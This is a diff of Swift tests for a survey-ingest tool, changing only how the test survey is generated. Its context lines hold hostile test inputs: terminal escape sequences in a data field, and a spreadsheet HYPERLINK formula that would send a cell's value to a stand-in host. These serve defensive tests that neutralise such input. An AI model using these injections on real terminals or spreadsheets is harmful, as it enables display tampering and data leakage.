@@ -11,7 +11,7 @@ import Testing
     /// Item 9: a gemeente cell with a clear-screen sequence, a window-title (OSC) sequence, a bell
     /// and a carriage return is quoted by `ingest --strict`'s failure — shown, never executed.
     @Test func ingestStrictShowsControlCharactersInsteadOfSendingThem() throws {
-        let survey = try GeneratedSurvey(runs: 200)
+        let survey = try GeneratedSurvey(samples: 16)
         let gemeente = "\u{1B}[2J\u{1B}]0;gehackt\u{07}Atlantis\r\u{9B}31m"
         let row = ["Jan", "", "", gemeente, "01-05-2012 10:00"] + GeneratedSurvey.channels.map { _ in "" }
             + ["1", "2", "3"] + GeneratedSurvey.purposes.map { _ in "Soms" } + [""]
@@ -41,7 +41,7 @@ import Testing
     /// Item 8: rejects.csv keeps a respondent's `=HYPERLINK(…)`, `@SUM(…)` and `+31 …` as text
     /// for a spreadsheet; a plain negative number stays a number.
     @Test func rejectsHoldFormulaCellsAsText() throws {
-        let survey = try GeneratedSurvey(runs: 200)
+        let survey = try GeneratedSurvey(samples: 16)
         let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")"
         let row = ["@SUM(1+1)", "+31 6 12345678", "-3", formula, "01-05-2012 10:00"] + GeneratedSurvey.channels.map { _ in "" }
             + ["-3", "2", "3"] + GeneratedSurvey.purposes.map { _ in "Soms" } + ["-2+3"]
@@ -61,7 +61,7 @@ import Testing
     /// `meetlat score` scans what it is about to write, refuses, names file and redacted match,
     /// and writes nothing.
     @Test func scoreRefusesPersonalDataFromAModel() throws {
-        let survey = try GeneratedSurvey(runs: 200)
+        let survey = try GeneratedSurvey(samples: 16)
         try survey.writeYear(2012, seed: 3)
         let model = survey.surveys.appendingPathComponent("models/meetlat-2012.yaml")
         let text = try String(contentsOf: model, encoding: .utf8)
